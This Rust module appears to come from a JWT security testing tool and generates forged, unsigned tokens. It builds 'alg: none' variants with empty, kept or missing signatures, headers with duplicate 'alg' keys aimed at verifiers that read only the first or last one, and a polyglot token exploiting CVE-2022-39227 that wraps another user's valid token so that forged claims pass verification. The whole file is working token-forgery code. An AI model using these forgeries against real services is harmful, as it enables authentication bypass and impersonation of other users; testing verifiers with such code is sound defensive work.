//! Tokens that nobody signed.
#![deny(clippy::disallowed_methods, clippy::disallowed_types)]

use base64::Engine;
use serde_json::{Map, Value, json};

use super::{BASE64URL, Parts};

/// What the header says about the algorithm.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Algorithm {
    /// This text.
    Named(&'static str),
    /// A list with `none` in it.
    List,
    /// `null`.
    Null,
    /// Nothing.
    Missing,
    /// What it said.
    Kept,
}

/// What follows the payload.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Tail {
    /// A dot and nothing.
    Empty,
    /// The old signature.
    Old,
    /// Nothing at all: two segments.
    Nothing,
}

/// Which of two `alg` is `none`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Order {
    /// For verifiers that take the first.
    NoneFirst,
    /// For verifiers that take the last.
    NoneLast,
}

pub(super) fn unsigned(parts: &Parts<'_>, algorithm: Algorithm, tail: Tail) -> String {
    let head = parts.with_header(|header| match algorithm {
        Algorithm::Named(name) => drop(header.insert("alg".to_owned(), json!(name))),
        Algorithm::List => drop(header.insert("alg".to_owned(), json!(["none"]))),
        Algorithm::Null => drop(header.insert("alg".to_owned(), Value::Null)),
        Algorithm::Missing => drop(header.remove("alg")),
        Algorithm::Kept => {}
    });
    match tail {
        Tail::Empty => format!("{head}."),
        Tail::Old => format!("{head}.{}", parts.signature),
        Tail::Nothing => head,
    }
}

/// The token as one without signature, in the form that RFC 7519 §6.1 shows.
pub(super) fn plain(parts: &Parts<'_>) -> String {
    unsigned(parts, Algorithm::Named("none"), Tail::Empty)
}

pub(super) fn twice(parts: &Parts<'_>, order: Order) -> String {
    let mut rest: Map<String, Value> = parts.header.clone();
    rest.remove("alg");
    let rest = Value::Object(rest).to_string();
    let middle = rest.trim_start_matches('{').trim_end_matches('}');
    let comma = if middle.is_empty() { "" } else { "," };
    let real = json!(parts.algorithm());
    let header = match order {
        Order::NoneFirst => format!(r#"{{"alg":"none",{middle}{comma}"alg":{real}}}"#),
        Order::NoneLast => format!(r#"{{"alg":{real},{middle}{comma}"alg":"none"}}"#),
    };
    format!("{}.{}.", BASE64URL.encode(header), parts.payload)
}

/// CVE-2022-39227: one reader sees the JSON serialisation of a good token of somebody else (RFC 7515 §7.2), the other
/// splits the same text at its dots and finds claims that nobody signed.
pub(super) fn polyglot(parts: &Parts<'_>, other: &str) -> Result<String, String> {
    let good = Parts::of(other).ok_or("there is no second token")?;
    let subject = |parts: &Parts<'_>| parts.claims().and_then(|claims| claims.get("sub").cloned());
    if subject(&good) == subject(parts) {
        return Err("there is nobody else whose token could be wrapped".to_owned());
    }
    Ok(format!(
        r#"{{"  {}.{}.":"","protected":"{}","payload":"{}","signature":"{}"}}"#,
        good.head, parts.payload, good.head, good.payload, good.signature
    ))
}
